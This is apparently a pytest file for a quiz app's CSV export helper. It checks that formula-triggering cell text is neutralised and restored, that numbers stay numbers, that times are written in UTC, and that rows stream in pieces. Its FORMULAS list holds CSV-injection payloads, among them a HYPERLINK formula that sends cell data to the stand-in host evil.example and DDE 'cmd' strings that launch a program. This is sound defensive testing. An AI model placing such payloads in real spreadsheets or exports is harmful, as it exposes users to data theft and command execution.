"""CSV cells: text a spreadsheet could run as a formula is neutralised, numbers stay
numbers, and what was neutralised reads back exactly."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from quizapp.services.csv_cells import PIECE_CHARS, cell, csv_pieces, restore_text, safe_text

#: Payloads of the kind the OWASP "CSV injection" page lists, one per trigger.
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "'=1+1",  # already prefixed: gets another, so restoring gives it back
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_is_prefixed_and_reads_back(text):
    assert safe_text(text) == "'" + text
    assert restore_text(safe_text(text)) == text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ann", "0.357", "ln(0.7)", "a=b", "", " =1", "ann@example.com"])
def test_other_text_is_left_alone(text):
    assert safe_text(text) == text and restore_text(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-0.5, -0.5),  # a number column: a negative number stays a number
        (0.0, 0.0),
        (1.0, 1.0),
        (-3, -3),
        (4294967295, 4294967295),
        (True, "true"),
        (False, "false"),
        (None, ""),
        (float("nan"), ""),
        (float("inf"), ""),
        ("-0.5", "'-0.5"),  # the same characters typed as an answer are text
    ],
)
def test_numbers_stay_numbers_and_text_is_text(value, written):
    assert cell(value) == written
    assert type(cell(value)) is type(written)


def test_times_are_iso_8601_in_utc():
    paris = timezone(timedelta(hours=1))
    assert cell(datetime(2026, 11, 30, 10, 0, 5, 123, tzinfo=paris)) == "2026-11-30T09:00:05Z"
    assert cell(datetime(2026, 11, 30, 9, 0, tzinfo=UTC)) == "2026-11-30T09:00:00Z"


def test_written_csv_parses_back_with_numbers_unprefixed():
    rows = [(1, "=1+1", -0.5, 'say "hi",\nthen go'), (2, "Ann", 0.25, None)]
    text = "".join(csv_pieces(("id", "name", "score", "note"), rows))
    assert text.startswith("id,name,score,note\r\n")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed == [
        ["id", "name", "score", "note"],
        ["1", "'=1+1", "-0.5", 'say "hi",\nthen go'],
        ["2", "Ann", "0.25", ""],
    ]


def test_many_rows_come_in_pieces_read_only_as_asked():
    """The rows are pulled as the pieces are: a generator is never drained up front."""
    pulled = []

    def rows():
        for n in range(20_000):
            pulled.append(n)
            yield (n, "x" * 20)

    pieces = csv_pieces(("n", "text"), rows())
    first = next(pieces)
    assert len(first) >= PIECE_CHARS and len(pulled) < 20_000
    rest = list(pieces)
    assert len(pulled) == 20_000 and len(rest) >= 2
    assert len(list(csv.reader(io.StringIO(first + "".join(rest), newline="")))) == 20_001
